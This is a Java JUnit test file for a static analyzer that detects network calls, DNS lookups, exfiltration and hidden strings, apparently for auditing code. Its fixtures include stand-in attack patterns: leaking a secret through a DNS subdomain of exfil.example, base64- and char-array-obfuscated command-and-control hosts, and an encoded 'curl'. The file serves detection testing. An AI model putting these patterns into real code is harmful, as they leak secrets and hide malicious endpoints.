package dev.clearbox.analyzers.source;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import dev.clearbox.core.Finding;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Network and DNS calls, their endpoints, and how their targets are resolved. */
class NetworkFindingsTest {
    @TempDir
    Path root;

    @Test
    @Tag("positive:CBX-SRC-NETWORK")
    void httpClientSendFollowsTheRequestToAConstantInAnotherClass() {
        SourceFixture.in(root)
                .file("src/main/java/com/acme/config/Endpoints.java", """
                        package com.acme.config;
                        public final class Endpoints {
                            public static final String BASE = "https://telemetry.example";
                            public static final String COLLECT = BASE + "/v2/collect";
                        }
                        """)
                .file("src/main/java/com/acme/app/Telemetry.java", """
                        package com.acme.app;
                        import com.acme.config.Endpoints;
                        import java.net.URI;
                        import java.net.http.HttpClient;
                        import java.net.http.HttpRequest;
                        import java.net.http.HttpResponse;
                        class Telemetry {
                            void send(String payload) throws Exception {
                                HttpClient client = HttpClient.newHttpClient();
                                HttpRequest request = HttpRequest.newBuilder(URI.create(Endpoints.COLLECT))
                                        .POST(HttpRequest.BodyPublishers.ofString(payload)).build();
                                client.send(request, HttpResponse.BodyHandlers.ofString()); // expect: NETWORK, endpoint=https://telemetry.example/v2/collect, resolution=receiver-type, api=java.net.http.HttpClient#send
                            }
                        }
                        """)
                .verify();
    }

    @Test
    void valuesReturnedByProjectMethodsAndConfigurationDefaultsAreFollowed() {
        SourceFixture.in(root)
                .file("src/main/java/com/acme/Config.java", """
                        package com.acme;
                        import java.util.Properties;
                        class Config {
                            static final String ZONE = "metrics.example";
                            private final Properties p = new Properties();
                            String updateUrl() {
                                return p.getProperty("update.url", Urls.CHECK);
                            }
                            String zone() {
                                return ZONE;
                            }
                            String twoWays(boolean b) {
                                if (b) {
                                    return "https://a.example";
                                }
                                return "https://b.example";
                            }
                        }
                        """)
                .file("src/main/java/com/acme/Urls.java", """
                        package com.acme;
                        final class Urls {
                            static final String CHECK = "https://updates.example/v1/check";
                        }
                        """)
                .file("src/main/java/com/acme/Client.java", """
                        package com.acme;
                        import java.net.InetAddress;
                        import java.net.URL;
                        class Client {
                            void run(Config config, String label, String host) throws Exception {
                                String query = "?os=" + System.getProperty("os.name"); // expect: SYSTEM_PROPERTY
                                new URL(config.updateUrl() + query).openStream(); // expect: NETWORK, endpoint=https://updates.example/v1/check?os={…}; EXFIL, from=6
                                InetAddress.getByName(label + "." + host + "." + config.zone()); // expect: DNS, endpoint={…}.{…}.metrics.example
                                new URL(config.twoWays(true)).openStream(); // expect: NETWORK
                                new URL(host + "/sigdb/latest.db").openStream(); // expect: NETWORK, endpoint={…}/sigdb/latest.db
                                new URL(host + "/").openStream(); // expect: NETWORK
                            }
                        }
                        """)
                .verify();
    }

    @Test
    @Tag("positive:CBX-SRC-NETWORK")
    @Tag("positive:CBX-SRC-DNS")
    void constructorsAndConcatenationsKeepTheConstantPrefix() {
        SourceFixture.in(root)
                .file("src/main/java/com/acme/Check.java", """
                        package com.acme;
                        import java.net.InetAddress;
                        import java.net.Socket;
                        import java.net.URL;
                        class Check {
                            void run(String id, String secret) throws Exception {
                                new URL("https://updates.example/check?id=" + id).openStream(); // expect: NETWORK, endpoint=https://updates.example/check?id={…}
                                Socket s = new Socket("10.1.2.3", 443); // expect: NETWORK, endpoint=10.1.2.3, api=java.net.Socket#<init>
                                InetAddress.getByName(secret + ".exfil.example"); // expect: DNS, endpoint={…}.exfil.example
                            }
                        }
                        """)
                .verify();
    }

    @Test
    void interfaceDispatchMatchesTheDeclaringSupertype() {
        SourceFixture.in(root)
                .file("Fetch.java", """
                        import java.net.URL;
                        import javax.net.ssl.HttpsURLConnection;
                        class Fetch {
                            byte[] fetch() throws Exception {
                                String address = "https://cdn.example/blob";
                                URL url = new URL(address);
                                HttpsURLConnection c = (HttpsURLConnection) url.openConnection(); // expect: NETWORK, endpoint=https://cdn.example/blob
                                return c.getInputStream().readAllBytes(); // expect: NETWORK, api=java.net.URLConnection#getInputStream, endpoint=https://cdn.example/blob
                            }
                        }
                        """)
                .verify();
    }

    @Test
    void vendorSubclassOfSocketIsReportedThroughItsAncestor() {
        SourceFixture.in(root)
                .file("src/main/java/com/acme/Beacon.java", """
                        package com.acme;
                        class Beacon extends java.net.Socket {
                            Beacon() throws Exception {
                                super("beacon.example", 80); // expect: NETWORK, api=java.net.Socket#<init>, endpoint=beacon.example
                            }
                            static Beacon open() throws Exception {
                                return new Beacon(); // expect: NETWORK, api=java.net.Socket#<init>, resolution=symbol-solver
                            }
                        }
                        """)
                .verify();
    }

    @Test
    void clientLibrariesWithoutTheirJarsAreRecoveredFromImports() {
        SourceAnalysisResult result = SourceFixture.in(root)
                .file("src/main/java/com/acme/Upload.java", """
                        package com.acme;
                        import okhttp3.OkHttpClient;
                        import okhttp3.Request;
                        import org.springframework.web.client.*;
                        class Upload {
                            private final RestTemplate rest = new RestTemplate();
                            void run() throws Exception {
                                OkHttpClient client = new OkHttpClient();
                                Request req = new Request.Builder().url("https://api.example/v1/upload").build();
                                client.newCall(req).execute(); // expect: NETWORK, resolution=imports, api=okhttp3.OkHttpClient#newCall, endpoint=https://api.example/v1/upload
                                rest.getForObject("https://rest.example/x", String.class); // expect: NETWORK, resolution=imports, endpoint=https://rest.example/x
                            }
                        }
                        """)
                .verify();
        // The chained execute() has no known receiver type without the jar: it must be counted, not dropped.
        assertEquals(1, result.coverage().unresolvedCallCount(), result.coverage().unresolvedCalls().toString());
        SourceCoverage.UnresolvedCall call = result.coverage().unresolvedCalls().get(0);
        assertEquals("src/main/java/com/acme/Upload.java", call.file());
        assertEquals(10, call.line());
        assertTrue(call.call().contains("execute()"), call.call());
    }

    @Test
    void aCallOnAClassWhoseSupertypeNobodyCanSeeIsCountedNotDropped() {
        // Beacon extends a library type the auditor was not given (it could be a java.net.Socket): its connect()
        // may be a network call, so its incomplete supertype list must not make the call "not a model API".
        SourceAnalysisResult result = SourceFixture.in(root)
                .file("src/main/java/com/acme/Beacon.java", """
                        package com.acme;
                        public class Beacon extends org.vendorlib.transport.PooledSocket {
                        }
                        """)
                .file("src/main/java/com/acme/Agent.java", """
                        package com.acme;
                        class Agent {
                            void run(java.net.SocketAddress where) throws Exception {
                                Beacon b = new Beacon();
                                b.connect(where); // expect: NETWORK, resolution=unresolved-supertypes, api=java.net.Socket#connect
                            }
                        }
                        """)
                .verify();
        assertTrue(result.coverage().unresolvedCalls().stream()
                        .anyMatch(c -> c.file().equals("src/main/java/com/acme/Agent.java") && c.line() == 5
                                && c.call().contains("connect")
                                && c.missingTypes().equals(List.of("org.vendorlib.transport.PooledSocket"))),
                result.coverage().unresolvedCalls().toString());
        // new Beacon() is in doubt too (PooledSocket's constructor may open a socket): counted, not matched
        assertEquals(List.of(new SourceCoverage.MissingType("org.vendorlib.transport.PooledSocket", 2, List.of())),
                result.coverage().missingTypes());
        assertTrue(result.coverage().unresolvedCalls().stream().anyMatch(c -> c.line() == 4
                && c.call().equals("new Beacon()")), result.coverage().unresolvedCalls().toString());
        Finding doubtful = result.findings().stream().filter(f -> f.location().line() == 5).findFirst().orElseThrow();
        assertTrue(doubtful.message().contains("missing org.vendorlib.transport.PooledSocket"), doubtful.message());
    }

    @Test
    @Tag("negative:CBX-SRC-NETWORK")
    void aMethodTheVisibleClassItselfImplementsIsNotInDoubt() {
        // Relay's own connect() has a body: the call runs it (its code is analysed), whatever the missing supertype
        // declares; an abstract declaration would not settle it, so drain() stays in doubt and is counted
        SourceAnalysisResult result = SourceFixture.in(root)
                .file("src/main/java/com/acme/Relay.java", """
                        package com.acme;
                        public abstract class Relay extends org.vendorlib.transport.PooledSocket {
                            public void connect(java.net.SocketAddress where) { }
                            public abstract void send(byte[] frame);
                        }
                        """)
                .file("src/main/java/com/acme/Agent.java", """
                        package com.acme;
                        class Agent {
                            void run(Relay r, java.net.SocketAddress where) throws Exception {
                                r.connect(where);
                                r.send(new byte[0]); // expect: NETWORK, resolution=unresolved-supertypes
                            }
                        }
                        """)
                .verify();
        assertEquals(List.of(5), result.coverage().unresolvedCalls().stream().map(c -> c.line()).toList(),
                result.coverage().unresolvedCalls().toString());
    }

    @Test
    @Tag("positive:CBX-SRC-NETWORK")
    void aCallOnATypeNobodyCanSeeIsMatchedByNameAndTheJarThatHoldsItIsNamed() throws Exception {
        // the servlet-style case: the receiver's own type (an interface of a jar not on the classpath) is unknown, so
        // the call can only be matched by name; the jar lying beside the sources that holds the type is named
        java.nio.file.Files.createDirectories(root.resolve("lib"));
        try (var zip = new java.util.zip.ZipOutputStream(java.nio.file.Files.newOutputStream(root.resolve("lib/transport-api.jar")))) {
            zip.putNextEntry(new java.util.zip.ZipEntry("org/vendorlib/transport/Channel.class"));
            zip.write(new byte[] {(byte) 0xCA, (byte) 0xFE});
            zip.closeEntry();
        }
        SourceAnalysisResult result = SourceFixture.in(root)
                .file("src/main/java/com/acme/Agent.java", """
                        package com.acme;
                        import org.vendorlib.transport.Channel;
                        class Agent {
                            void run(Channel channel, java.net.SocketAddress where) throws Exception {
                                channel.connect(where); // expect: NETWORK, resolution=unresolved-supertypes, api=java.net.Socket#connect
                                channel.close();
                            }
                        }
                        """)
                .verify();
        assertEquals(List.of(new SourceCoverage.MissingType("org.vendorlib.transport.Channel", 1,
                List.of("lib/transport-api.jar"))), result.coverage().missingTypes(),
                "close() is no model method name, so only connect() is in doubt");
    }

    @Test
    @Tag("negative:CBX-SRC-NETWORK")
    @Tag("negative:CBX-SRC-SHADOWED-API")
    void userClassNamedSocketAndUnrelatedSendAreNotReported() {
        SourceFixture.in(root)
                .file("src/main/java/com/acme/net/Socket.java", """
                        package com.acme.net;
                        public class Socket {
                            public Socket(String host, int port) { }
                            public void send(String text) { }
                        }
                        """)
                .file("src/main/java/com/acme/app/Mailer.java", """
                        package com.acme.app;
                        import com.acme.net.Socket;
                        class Mailer {
                            void run() {
                                Socket s = new Socket("evil.example", 25);
                                s.send("hello");
                            }
                        }
                        """)
                .verify();
    }

    @Test
    @Tag("positive:CBX-SRC-HIDDEN-STRING")
    void hiddenStringsAreReportedWithTheirDecodedText() {
        SourceFixture.in(root)
                .file("Hidden.java", """
                        import java.net.URL;
                        class Hidden {
                            static final String A = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=="; // expect: HIDDEN_STRING, endpoint=https://evil.example/c
                            void run() throws Exception {
                                String host = new String(new char[] {'c', '2', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e'}); // expect: HIDDEN_STRING, endpoint=c2.example
                                byte[] cmd = {99, 117, 114, 108};
                                String tool = new String(new byte[] {99, 117, 114, 108}); // expect: HIDDEN_STRING
                                new URL("https://" + host + "/x").openStream(); // expect: NETWORK, endpoint=https://c2.example/x
                            }
                        }
                        """)
                .verify();
    }
}
